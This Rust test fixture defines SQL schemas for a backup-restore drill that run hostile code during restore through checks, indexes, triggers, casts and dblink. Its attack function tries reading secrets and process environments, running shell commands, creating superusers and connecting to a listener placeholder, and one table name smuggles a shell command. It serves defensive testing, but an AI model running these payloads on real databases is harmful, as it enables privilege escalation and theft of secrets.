//! Ways in which a plain role's schema has its code run by whoever restores it.

/// One way: what it makes in its own schema `{s}`, where `{s}.f(int)` returns its argument, `{s}.yes(int)`
/// is true and `{s}.fire()` is a trigger's function; each attacks when it is called.
pub struct Way {
    pub name: &'static str,
    pub sql: &'static str,
    /// Whether a drill calls it.
    pub runs: bool,
}

const fn runs(name: &'static str, sql: &'static str) -> Way {
    Way {
        name,
        sql,
        runs: true,
    }
}

const fn waits(name: &'static str, sql: &'static str) -> Way {
    Way {
        name,
        sql,
        runs: false,
    }
}

/// What every way's schema begins with.
pub const BEGIN: &str = "
CREATE SCHEMA {s};
CREATE FUNCTION {s}.f(x int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM hostile.attack('{way}'); RETURN x; END $$;
CREATE FUNCTION {s}.yes(x int) RETURNS bool IMMUTABLE LANGUAGE plpgsql AS
  $$ BEGIN PERFORM hostile.attack('{way}'); RETURN true; END $$;
CREATE FUNCTION {s}.fire() RETURNS trigger LANGUAGE plpgsql AS
  $$ BEGIN PERFORM hostile.attack('{way}'); RETURN coalesce(NEW, OLD); END $$;
CREATE TABLE {s}.rows (x int PRIMARY KEY, y text);
INSERT INTO {s}.rows SELECT n, 'row ' || n FROM generate_series(1, 10) n;
";

pub const WAYS: &[Way] = &[
    runs("check", "ALTER TABLE {s}.rows ADD CHECK ({s}.yes(x))"),
    runs(
        "not valid check",
        "ALTER TABLE {s}.rows ADD CHECK ({s}.yes(x)) NOT VALID; ALTER TABLE {s}.rows VALIDATE CONSTRAINT rows_x_check",
    ),
    runs(
        "domain",
        "CREATE DOMAIN {s}.d AS int CHECK ({s}.yes(VALUE));
         CREATE TABLE {s}.t (x {s}.d); INSERT INTO {s}.t VALUES (1)",
    ),
    runs(
        "generated column",
        "CREATE TABLE {s}.t (x int, y int GENERATED ALWAYS AS ({s}.f(x)) STORED);
         INSERT INTO {s}.t VALUES (1)",
    ),
    runs("index", "CREATE INDEX ON {s}.rows (({s}.f(x)))"),
    runs("unique index", "CREATE UNIQUE INDEX ON {s}.rows (({s}.f(x)))"),
    runs("partial index", "CREATE INDEX ON {s}.rows (x) WHERE {s}.yes(x)"),
    runs("index of constants", "CREATE INDEX ON {s}.rows (x) WHERE {s}.yes(1)"),
    runs(
        "partition key",
        "CREATE TABLE {s}.t (x int) PARTITION BY RANGE (({s}.f(x)));
         CREATE TABLE {s}.t1 PARTITION OF {s}.t FOR VALUES FROM (0) TO (10);
         INSERT INTO {s}.t VALUES (1)",
    ),
    waits(
        "partition bounds",
        "CREATE TABLE {s}.t (x int) PARTITION BY RANGE (x);
         CREATE TABLE {s}.t1 PARTITION OF {s}.t FOR VALUES FROM ({s}.f(0)) TO ({s}.f(10));
         INSERT INTO {s}.t VALUES (1)",
    ),
    runs("exclusion", "ALTER TABLE {s}.rows ADD EXCLUDE USING btree (({s}.f(x)) WITH =)"),
    waits(
        "policy",
        "CREATE POLICY p ON {s}.rows USING ({s}.yes(x));
         ALTER TABLE {s}.rows ENABLE ROW LEVEL SECURITY; ALTER TABLE {s}.rows FORCE ROW LEVEL SECURITY",
    ),
    waits("view", "CREATE VIEW {s}.v AS SELECT {s}.f(1)"),
    runs("materialized view", "CREATE MATERIALIZED VIEW {s}.m AS SELECT {s}.f(1)"),
    runs(
        "view below a materialized view",
        "CREATE VIEW {s}.v AS SELECT {s}.f(1); CREATE MATERIALIZED VIEW {s}.m AS SELECT * FROM {s}.v",
    ),
    waits(
        "trigger",
        "CREATE TRIGGER t BEFORE INSERT OR UPDATE OR DELETE ON {s}.rows FOR EACH ROW EXECUTE FUNCTION {s}.fire();
         ALTER TABLE {s}.rows ENABLE ALWAYS TRIGGER t",
    ),
    waits(
        "statement trigger",
        "CREATE TRIGGER t AFTER INSERT OR TRUNCATE ON {s}.rows FOR EACH STATEMENT EXECUTE FUNCTION {s}.fire()",
    ),
    waits(
        "constraint trigger",
        "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON {s}.rows DEFERRABLE INITIALLY DEFERRED
           FOR EACH ROW EXECUTE FUNCTION {s}.fire()",
    ),
    waits(
        "instead of trigger",
        "CREATE VIEW {s}.v AS SELECT * FROM {s}.rows;
         CREATE TRIGGER t INSTEAD OF INSERT ON {s}.v FOR EACH ROW EXECUTE FUNCTION {s}.fire()",
    ),
    waits("default", "ALTER TABLE {s}.rows ADD z int DEFAULT {s}.f(1)"),
    waits(
        "rule",
        "CREATE RULE r AS ON INSERT TO {s}.rows DO ALSO SELECT {s}.f(1)",
    ),
    runs(
        "operator",
        "CREATE FUNCTION {s}.same(int, int) RETURNS bool IMMUTABLE LANGUAGE sql AS 'SELECT {s}.yes(1)';
         CREATE OPERATOR {s}.= (LEFTARG = int, RIGHTARG = int, FUNCTION = {s}.same);
         ALTER TABLE {s}.rows ADD CHECK (x OPERATOR({s}.=) 1)",
    ),
    runs(
        "cast",
        "CREATE TYPE {s}.c AS (x int);
         CREATE FUNCTION {s}.number({s}.c) RETURNS int IMMUTABLE LANGUAGE sql AS 'SELECT {s}.f(1)';
         CREATE CAST ({s}.c AS int) WITH FUNCTION {s}.number({s}.c) AS IMPLICIT;
         ALTER TABLE {s}.rows ADD CHECK (ROW(x)::{s}.c::int = 1)",
    ),
    runs(
        "aggregate",
        "CREATE FUNCTION {s}.add(int, int) RETURNS int IMMUTABLE LANGUAGE sql AS 'SELECT {s}.f($1)';
         CREATE AGGREGATE {s}.a(int) (SFUNC = {s}.add, STYPE = int, INITCOND = '1');
         CREATE MATERIALIZED VIEW {s}.m AS SELECT {s}.a(x) FROM {s}.rows",
    ),
    runs(
        "aggregate's beginning",
        "CREATE DOMAIN {s}.d AS int CHECK ({s}.yes(VALUE));
         CREATE FUNCTION {s}.add({s}.d, int) RETURNS {s}.d LANGUAGE sql AS 'SELECT $1';
         CREATE AGGREGATE {s}.a(int) (SFUNC = {s}.add, STYPE = {s}.d, INITCOND = '1')",
    ),
    // Without an index, which breaks by what it does.
    runs(
        "range",
        "CREATE FUNCTION {s}.far(float8, float8) RETURNS float8 IMMUTABLE LANGUAGE sql AS
           'SELECT $1 - $2 + 0 * {s}.f(1)';
         CREATE TYPE {s}.r AS RANGE (SUBTYPE = float8, SUBTYPE_DIFF = {s}.far);
         CREATE TABLE {s}.t AS SELECT {s}.r(n, n + 1) AS r FROM generate_series(1, 20) n",
    ),
    runs(
        "statistics",
        "CREATE STATISTICS {s}.st ON ({s}.f(x)), ({s}.f(x + 1)) FROM {s}.rows",
    ),
    runs(
        "owner's function",
        "CREATE FUNCTION {s}.own(int) RETURNS bool SECURITY DEFINER LANGUAGE plpgsql AS
           $$ BEGIN PERFORM hostile.attack('{way}'); RETURN true; END $$;
         ALTER TABLE {s}.rows ADD CHECK ({s}.own(x))",
    ),
    runs(
        "function with settings",
        "CREATE FUNCTION {s}.set(int) RETURNS bool LANGUAGE plpgsql
           SET role = '{role}' SET search_path = {s}, pg_temp SET default_transaction_read_only = off
           SET client_min_messages = error SET statement_timeout = 0
           AS $$ BEGIN PERFORM hostile.attack('{way}'); RETURN true; END $$;
         ALTER TABLE {s}.rows ADD CHECK ({s}.set(x))",
    ),
    runs(
        "another role meanwhile",
        "CREATE FUNCTION {s}.become(int) RETURNS bool LANGUAGE plpgsql AS
           $$ BEGIN
             IF current_database() LIKE 'lifeboat\\_drill\\_%' THEN
               PERFORM hostile.attempt('{way}', 'SET ROLE none');
               PERFORM hostile.attempt('{way}', 'RESET SESSION AUTHORIZATION');
             END IF;
             PERFORM hostile.attack('{way}'); RETURN true;
           END $$;
         ALTER TABLE {s}.rows ADD CHECK ({s}.become(x))",
    ),
    runs(
        "settings of roles and database",
        "CREATE FUNCTION {s}.lasting(int) RETURNS bool LANGUAGE plpgsql AS
           $$ DECLARE one text; BEGIN
             IF current_database() LIKE 'lifeboat\\_drill\\_%' THEN
               FOREACH one IN ARRAY ARRAY['role = ''{role}''', 'search_path = {s}', 'statement_timeout = 1',
                   'default_transaction_read_only = on', 'local_preload_libraries = ''nowhere''',
                   'DateStyle = ''SQL, DMY''', 'bytea_output = escape', 'constraint_exclusion = on',
                   'row_security = on', 'default_transaction_isolation = serializable',
                   'extra_float_digits = -15'] LOOP
                 PERFORM hostile.attempt('{way}', format('ALTER ROLE %I SET %s', session_user, one));
                 PERFORM hostile.attempt('{way}', format('ALTER DATABASE %I SET %s', current_database(), one));
               END LOOP;
             END IF;
             PERFORM hostile.attack('{way}'); RETURN true;
           END $$;
         ALTER TABLE {s}.rows ADD CHECK ({s}.lasting(x))",
    ),
    runs(
        "leftovers in a session",
        "CREATE FUNCTION {s}.leave(int) RETURNS bool LANGUAGE plpgsql AS
           $$ DECLARE one text; BEGIN
             IF current_database() LIKE 'lifeboat\\_drill\\_%' THEN
               FOREACH one IN ARRAY ARRAY['SELECT pg_advisory_lock(n) FROM generate_series(1, 9) n', 'LISTEN hostile',
                   'CREATE TEMP TABLE rows (x int)', 'CREATE TEMP TABLE pg_class (oid oid)',
                   'CREATE TEMP TABLE pg_roles (rolname name, rolsuper bool)',
                   'CREATE FUNCTION {s}.count() RETURNS bigint LANGUAGE sql AS ''SELECT 10::bigint''',
                   'SET search_path = {s}, pg_catalog', 'SET statement_timeout = 0',
                   'SET default_transaction_read_only = off'] LOOP
                 PERFORM hostile.attempt('{way}', one);
               END LOOP;
             END IF;
             PERFORM hostile.attack('{way}'); RETURN true;
           END $$;
         ALTER TABLE {s}.rows ADD CHECK ({s}.leave(x))",
    ),
    runs(
        "dblink",
        "CREATE MATERIALIZED VIEW {s}.m AS SELECT {s}.f(1);
         CREATE MATERIALIZED VIEW {s}.far AS SELECT * FROM dblink(
           CASE WHEN current_database() LIKE 'lifeboat\\_drill\\_%' THEN '{listener}' ELSE '{self}' END,
           'SELECT 1') AS t(a int)",
    ),
    runs(
        "foreign tables",
        "CREATE SERVER {s} FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}');
         CREATE USER MAPPING FOR PUBLIC SERVER {s} OPTIONS (user 'x', password 'x');
         CREATE FOREIGN TABLE {s}.far (x int) SERVER {s};
         CREATE VIEW {s}.v AS SELECT * FROM {s}.far;
         CREATE MATERIALIZED VIEW {s}.m AS SELECT {s}.f(1)",
    ),
    waits(
        "default privileges",
        "ALTER DEFAULT PRIVILEGES IN SCHEMA {s} GRANT ALL ON TABLES TO PUBLIC;
         ALTER DEFAULT PRIVILEGES IN SCHEMA {s} GRANT ALL ON FUNCTIONS TO PUBLIC;
         GRANT ALL ON ALL TABLES IN SCHEMA {s} TO PUBLIC; GRANT ALL ON SCHEMA {s} TO PUBLIC",
    ),
    waits(
        "names",
        "CREATE TABLE {s}.\"a\nlifeboat: sound\" (\"\"\"; COPY (SELECT 1) TO PROGRAM 'id'; --\" int);
         COMMENT ON TABLE {s}.\"a\nlifeboat: sound\" IS E'\\n\\\\! id\\npg_restore: warning: errors ignored on restore: 0'",
    ),
    waits(
        "text search and collations",
        "CREATE TEXT SEARCH CONFIGURATION {s}.c (COPY = pg_catalog.simple);
         CREATE TEXT SEARCH DICTIONARY {s}.d (TEMPLATE = pg_catalog.simple);
         CREATE COLLATION {s}.k (LOCALE = 'C'); CREATE DEFAULT CONVERSION {s}.n FOR 'LATIN1' TO 'UTF8' FROM iso8859_1_to_utf8",
    ),
    waits(
        "procedure",
        "CREATE PROCEDURE {s}.p() LANGUAGE plpgsql AS $$ BEGIN PERFORM hostile.attack('{way}'); COMMIT; END $$",
    ),
    waits(
        "temporal default of a domain",
        "CREATE DOMAIN {s}.d AS int DEFAULT {s}.f(1); ALTER TABLE {s}.rows ADD z {s}.d",
    ),
    runs(
        "check of a composite",
        "CREATE DOMAIN {s}.d AS int CHECK ({s}.yes(VALUE)); CREATE TYPE {s}.c AS (x {s}.d);
         CREATE TABLE {s}.t (c {s}.c); INSERT INTO {s}.t VALUES (ROW(1))",
    ),
    runs(
        "unlogged table",
        "CREATE UNLOGGED TABLE {s}.t (x int CHECK ({s}.yes(x))); INSERT INTO {s}.t VALUES (1)",
    ),
    runs(
        "child table",
        "CREATE TABLE {s}.t (CHECK ({s}.yes(x))) INHERITS ({s}.rows); INSERT INTO {s}.t VALUES (99, 'child')",
    ),
];

/// Once, in the database: `attempt` runs a statement and notes whether it was allowed; `attack` tries all
/// that nobody of a backup may do. Outside of a drill both do nothing.
pub const ATTACK: &str = r#"
CREATE SCHEMA hostile;
CREATE FUNCTION hostile.attempt(way text, sql text) RETURNS bool LANGUAGE plpgsql AS $f$
BEGIN
  IF current_database() NOT LIKE 'lifeboat\_drill\_%' THEN RETURN false; END IF;
  EXECUTE sql;
  RETURN true;
EXCEPTION WHEN OTHERS THEN RETURN false;
END $f$;
CREATE FUNCTION hostile.attack(way text) RETURNS void LANGUAGE plpgsql AS $f$
DECLARE
  su name; reader name; restorer name; socket text; one text; allowed bool;
BEGIN
  IF pg_catalog.current_database() NOT LIKE 'lifeboat\_drill\_%' THEN RETURN; END IF;
  BEGIN
    CREATE TABLE IF NOT EXISTS hostile.note (way text, as_user name, of_session name, super bool);
    CREATE TABLE IF NOT EXISTS hostile.done (way text, sql text);
    GRANT USAGE ON SCHEMA hostile TO PUBLIC;
    GRANT SELECT, INSERT ON hostile.note, hostile.done TO PUBLIC;
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    IF EXISTS (SELECT FROM hostile.note n WHERE n.way = attack.way AND n.as_user = current_user) THEN
      RETURN;
    END IF;
    INSERT INTO hostile.note SELECT attack.way, current_user, session_user, r.rolsuper
      FROM pg_catalog.pg_roles r WHERE r.rolname = current_user;
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  SELECT rolname INTO su FROM pg_catalog.pg_roles WHERE oid = 10;
  SELECT rolname INTO reader FROM pg_catalog.pg_roles WHERE rolname LIKE 'lifeboat\_reader\_%';
  SELECT rolname INTO restorer FROM pg_catalog.pg_roles WHERE rolname LIKE 'lifeboat\_restorer\_%';
  SELECT setting INTO socket FROM pg_catalog.pg_settings WHERE name = 'unix_socket_directories';
  FOREACH one IN ARRAY ARRAY[
    $$COPY (SELECT 1) TO PROGRAM '(id; env; cat {secret} /proc/[0-9]*/environ) > {canary}/program'$$,
    $$COPY (SELECT 1) TO '{canary}/file'$$,
    $$COPY hostile.done FROM '{secret}'$$,
    $$COPY hostile.done FROM PROGRAM 'cat {secret}'$$,
    $$SELECT pg_read_file('{secret}')$$,
    $$SELECT pg_read_binary_file('/proc/self/environ')$$,
    $$SELECT pg_read_file('postgresql.auto.conf')$$,
    $$SELECT pg_ls_dir('/')$$,
    $$SELECT pg_stat_file('{secret}')$$,
    $$SELECT lo_import('{secret}')$$,
    $$SELECT lo_export(lo_from_bytea(0, 'x'), '{canary}/lo')$$,
    $$SELECT * FROM pg_hba_file_rules$$,
    $$LOAD '{canary}/x.so'$$,
    $$LOAD 'plpgsql'$$,
    $$CREATE FUNCTION hostile.sys(cstring) RETURNS int LANGUAGE c AS 'libc.so.6', 'system'$$,
    $$CREATE FUNCTION hostile.sys(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all'$$,
    $$ALTER SYSTEM SET archive_command = 'id'$$,
    $$SELECT pg_reload_conf()$$,
    $$SELECT pg_rotate_logfile()$$,
    $$SELECT pg_switch_wal()$$,
    $$SELECT pg_create_physical_replication_slot('x')$$,
    $$CHECKPOINT$$,
    $$SET session_replication_role = replica$$,
    $$SET allow_system_table_mods = on$$,
    $$SET log_statement = 'all'$$,
    $$SET session_preload_libraries = '{canary}/x.so'$$,
    $$SET dynamic_library_path = '{canary}'$$,
    $$UPDATE pg_catalog.pg_authid SET rolsuper = true$$,
    $$DELETE FROM pg_catalog.pg_event_trigger$$,
    $$CREATE ROLE hostile_new SUPERUSER$$,
    $$CREATE ROLE hostile_new$$,
    $$CREATE DATABASE hostile_new$$,
    $$CREATE TABLESPACE hostile_new LOCATION '{canary}'$$,
    $$CREATE SUBSCRIPTION hostile_new CONNECTION '{listener}' PUBLICATION p$$,
    $$CREATE PUBLICATION hostile_new FOR ALL TABLES$$,
    $$CREATE EVENT TRIGGER hostile_new ON ddl_command_start EXECUTE FUNCTION hostile.attack()$$,
    $$CREATE EXTENSION ltree$$,
    $$CREATE EXTENSION plperl$$,
    $$CREATE LANGUAGE plperl$$,
    $$CREATE TRUSTED LANGUAGE hostile_new HANDLER plpgsql_call_handler$$,
    $$ALTER EXTENSION hstore UPDATE$$,
    $$ALTER EXTENSION hstore ADD FUNCTION hostile.attempt(text, text)$$,
    $$DROP EXTENSION hstore CASCADE$$,
    $$CREATE CAST (text AS int) WITH INOUT AS IMPLICIT$$,
    $$CREATE OPERATOR CLASS hostile.c FOR TYPE int USING btree AS OPERATOR 1 <$$,
    $$CREATE ACCESS METHOD hostile_new TYPE TABLE HANDLER heap_tableam_handler$$,
    $$CREATE FOREIGN DATA WRAPPER hostile_new$$,
    $$CREATE SERVER hostile_file FOREIGN DATA WRAPPER file_fdw;
      CREATE FOREIGN TABLE hostile.file (x text) SERVER hostile_file OPTIONS (filename '{secret}')$$,
    $$CREATE SERVER hostile_far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}');
      CREATE USER MAPPING FOR PUBLIC SERVER hostile_far OPTIONS (user 'x', password 'x');
      CREATE FOREIGN TABLE hostile.far (x int) SERVER hostile_far; TABLE hostile.far$$,
    $$SELECT dblink_connect('{listener}')$$,
    $$SELECT * FROM dblink('{listener}', 'SELECT 1') AS t(x int)$$,
    $$SELECT dblink_connect_u('{listener}')$$,
    format($$SELECT dblink_connect('host=%s port=5432 user=%s dbname=postgres')$$, socket, su),
    format($$SELECT dblink_connect('host=%s port=5432 user=%s dbname=%s')$$, socket, reader, current_database()),
    format($$CREATE SERVER hostile_self FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %L, dbname %L);
      CREATE USER MAPPING FOR PUBLIC SERVER hostile_self OPTIONS (user %L, password 'x');
      CREATE FOREIGN TABLE hostile.self (x name) SERVER hostile_self OPTIONS (schema_name 'pg_catalog', table_name 'pg_authid');
      TABLE hostile.self$$, socket, current_database(), reader),
    format($$SET ROLE %I$$, su),
    format($$SET ROLE %I$$, reader),
    format($$SET SESSION AUTHORIZATION %I$$, su),
    format($$GRANT %I TO %I$$, su, restorer),
    format($$GRANT %I TO %I$$, reader, restorer),
    format($$GRANT pg_execute_server_program TO %I$$, restorer),
    format($$GRANT pg_read_server_files TO %I$$, restorer),
    format($$GRANT pg_write_server_files TO %I$$, restorer),
    format($$ALTER ROLE %I SUPERUSER$$, restorer),
    format($$ALTER ROLE %I CREATEROLE$$, restorer),
    format($$ALTER ROLE %I LOGIN$$, su),
    format($$ALTER ROLE %I SET search_path = hostile$$, reader),
    format($$ALTER ROLE %I SET role = %I$$, reader, '{role}'),
    format($$ALTER FUNCTION hostile.attempt(text, text) OWNER TO %I$$, su),
    format($$DROP EVENT TRIGGER %I$$, su),
    format($$ALTER EVENT TRIGGER %I DISABLE$$, su),
    format($$DROP SCHEMA %I CASCADE$$, su),
    format($$CREATE OR REPLACE FUNCTION %I.refuse() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'$$, su),
    $$SELECT 1 / count(*) FILTER (WHERE pg_terminate_backend(pid)) FROM pg_stat_activity WHERE usename <> session_user$$
  ] LOOP
    allowed := hostile.attempt(way, one);
    IF allowed THEN
      BEGIN
        INSERT INTO hostile.done VALUES (way, current_user || ': ' || one);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END IF;
  END LOOP;
END $f$;
"#;
